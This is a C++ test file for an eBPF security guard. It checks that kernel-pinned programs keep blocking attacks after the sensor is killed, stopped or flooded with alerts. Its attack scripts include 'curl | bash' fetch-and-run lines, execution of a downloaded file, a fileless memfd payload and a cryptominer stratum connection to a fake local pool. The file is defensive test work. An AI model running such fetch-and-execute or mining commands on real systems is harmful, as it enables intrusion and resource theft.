// SPDX-License-Identifier: Apache-2.0
// Enforcement without the sensor: killed, stopped, or drowned in its own alerts.
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/utsname.h>
#include <unistd.h>

#include <cstdio>
#include <filesystem>
#include <utility>

#include "base/files.h"
#include "chain_site.h"
#include "support/fake_pool.h"

namespace davylamp::test {
namespace {

using testing::HasSubstr;
using testing::IsEmpty;

// Waits for its sensor to be gone (or stopped), attacks in every way there is, and says when it is
// through. It ends when told to.
std::string attacks(ChainSite& site, const FakePool& pool)
{
    const std::string message = site.folder.write(
        "login", "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cpuminer/2.5.1\"]}\n");
    return site.fill("touch @D/inside; until [ -e @D/attack ]; do sleep 0.01; done\n"
                     "curl -s @URL | bash\n"
                     "curl -s @URL > @D/fetched && touch @D/network_works\n" +
                     program("live_fileless") + " memfd " + program("live_victim") + " @D v\n" +
                     program("live_stratum_client") + " 127.0.0.1 " + std::to_string(pool.port()) +
                     " " + message + " one @D/result &\n" +
                     "miner=$!; until [ -e @D/end ]; do sleep 0.01; done; kill $miner; exit 0\n");
}

// The command stands at its beginning, under the guard.
bool is_waiting(const ChainSite& site)
{
    return eventually([&] { return exists(site.folder / "inside"); });
}

void kill_sensor(Guard& guard)
{
    guard.process().signal(SIGKILL);
    EXPECT_EQ(guard.process().wait(), 128 + SIGKILL);
}

void expect_refused(const ChainSite& site, const FakePool& pool)
{
    // The miner comes last: once its connection stands, the others are over.
    EXPECT_TRUE(eventually([&] { return pool.connections().size() == 1; }));
    EXPECT_TRUE(exists(site.folder / "network_works"))
        << "the refusal is not the network's failure";
    EXPECT_FALSE(exists(site.marker()));
    EXPECT_FALSE(exists(site.folder / "v.ready"));
}

// A file system of its own for the pins. Any guard that starts meanwhile, a test beside this one
// among them, would else take over from the dead one, and say what this test waits to hear.
void hide_pins_from_other_guards()
{
    ASSERT_EQ(::unshare(CLONE_NEWNS), 0) << errno_text(errno);
    ASSERT_EQ(::mount("none", "/", nullptr, MS_REC | MS_PRIVATE, nullptr), 0) << errno_text(errno);
    ASSERT_EQ(::mount("bpf", "/sys/fs/bpf", "bpf", 0, nullptr), 0) << errno_text(errno);
}

// Until 6.10 tcp_abort() empties the queue of a connection whose owner is dead, and does not tell
// the other end.
bool other_ends_are_told()
{
    utsname kernel{};
    int major = 0, minor = 0;
    return ::uname(&kernel) == 0 && std::sscanf(kernel.release, "%d.%d", &major, &minor) == 2 &&
           std::pair(major, minor) >= std::pair(6, 11);
}

// A guard that starts, and so may take over.
GuardResult successor()
{
    GuardOptions options;
    options.command = {"true"};
    options.alone = true;
    return run_guard(options);
}

TEST(Survival, PinnedProgramsBlockAfterTheSensorWasKilled)
{
    ASSERT_NO_FATAL_FAILURE(hide_pins_from_other_guards());
    ChainSite site;
    FakePool pool;
    GuardOptions options;
    options.mode = Mode::block;
    options.command = bash(attacks(site, pool));
    Guard guard(options);
    ASSERT_TRUE(is_waiting(site));
    const std::string cgroup = guard.cgroup(), pins = guard.pins();
    kill_sensor(guard);
    site.folder.write("attack", "");
    expect_refused(site, pool);
    EXPECT_TRUE(exists(pins));

    // While its cgroup is populated, a successor leaves it alone.
    EXPECT_EQ(successor().exit_code, 0);
    EXPECT_TRUE(exists(pins));
    EXPECT_EQ(pool.bytes(), "");

    site.folder.write("end", "");
    EXPECT_TRUE(eventually(
        [&] { return slurp(cgroup + "/cgroup.events").find("populated 0") != std::string::npos; }));
    EXPECT_EQ(pool.bytes(), "");
    // The miner's connection has outlived it, and what was refused waits there to be sent again:
    // it ends before its filter does.
    GuardResult next = successor();
    EXPECT_EQ(next.exit_code, 0);
    EXPECT_THAT(next.err, HasSubstr("destroyed 1 refused connection"));
    EXPECT_FALSE(exists(pins));
    EXPECT_FALSE(exists(cgroup));
    if (other_ends_are_told()) {
        EXPECT_TRUE(eventually([&] { return pool.all_ended(); }));
    }
    EXPECT_EQ(pool.bytes(), "");
}

// By the programs that hear of opens, whose links are of perf events: before 5.15 those cannot be
// pinned, and a process holds them.
TEST(Survival, ADownloadedFileDoesNotRunAfterTheSensorWasKilled)
{
    ASSERT_NO_FATAL_FAILURE(hide_pins_from_other_guards());
    ChainSite site;
    GuardOptions options;
    options.mode = Mode::block;
    options.command =
        bash(site.fill("touch @D/inside; until [ -e @D/attack ]; do sleep 0.01; done\n"
                       "curl -s -o @D/fetched @URL && touch @D/network_works\n"
                       "bash @D/fetched; echo $? > @D/status\n"));
    Guard guard(options);
    ASSERT_TRUE(is_waiting(site));
    const std::string cgroup = guard.cgroup(), pins = guard.pins();
    kill_sensor(guard);
    site.folder.write("attack", "");
    EXPECT_TRUE(eventually([&] { return slurp(site.folder / "status") == "137\n"; }));
    EXPECT_TRUE(exists(site.folder / "network_works"));
    EXPECT_FALSE(exists(site.marker()));

    // As a successor would, which takes longer to start.
    std::filesystem::remove_all(pins);
    EXPECT_TRUE(eventually([&] { return ::rmdir(cgroup.c_str()) == 0; }));
}

TEST(Survival, StoppedSensorBlocksOn)
{
    ChainSite site;
    FakePool pool;
    GuardOptions options;
    options.mode = Mode::block;
    options.command = bash(attacks(site, pool));
    Guard guard(options);
    ASSERT_TRUE(is_waiting(site));
    guard.process().signal(SIGSTOP);
    site.folder.write("attack", "");
    expect_refused(site, pool);
    EXPECT_EQ(pool.bytes(), "");
    site.folder.write("end", "");
    guard.process().signal(SIGCONT);
    GuardResult result = guard.finish();
    EXPECT_EQ(result.exit_code, 86);
    EXPECT_TRUE(result.first("CHAIN-001").did("refuse"));
    result.first("EXE-001");
    result.first("MINE-001");
    EXPECT_EQ(pool.bytes(), "");
}

// Nobody reads the alerts: the ring (256 KiB) is full after some hundred.
TEST(Survival, FullAlertRingStopsNoBlock)
{
    constexpr int kConnects = 5000;
    ChainSite site;
    FakePool pool;
    GuardOptions options;
    options.mode = Mode::block;
    options.policy = R"({"detections": {"stratum": {"ports_refuse": true, "ports": [)" +
                     std::to_string(pool.port()) + "]}}}";
    options.command = bash(site.fill(
        "touch @D/inside; until [ -e @D/attack ]; do sleep 0.01; done\n" + program("live_flood") +
        " " + std::to_string(pool.port()) + " " + std::to_string(kConnects) +
        " > @D/refused\ncurl -s @URL | bash\n" + program("live_fileless") + " memfd " +
        program("live_victim") + " @D v\ntouch @D/through"));
    Guard guard(options);
    ASSERT_TRUE(is_waiting(site));
    guard.process().signal(SIGSTOP);
    site.folder.write("attack", "");
    EXPECT_TRUE(eventually([&] { return exists(site.folder / "through"); }));
    EXPECT_EQ(slurp(site.folder / "refused"), std::to_string(kConnects) + "\n");
    EXPECT_THAT(pool.connections(), IsEmpty());
    EXPECT_FALSE(exists(site.marker()));
    EXPECT_FALSE(exists(site.folder / "v.ready"));
    guard.process().signal(SIGCONT);
    EXPECT_EQ(guard.finish().exit_code, 86);
}

} // namespace
} // namespace davylamp::test
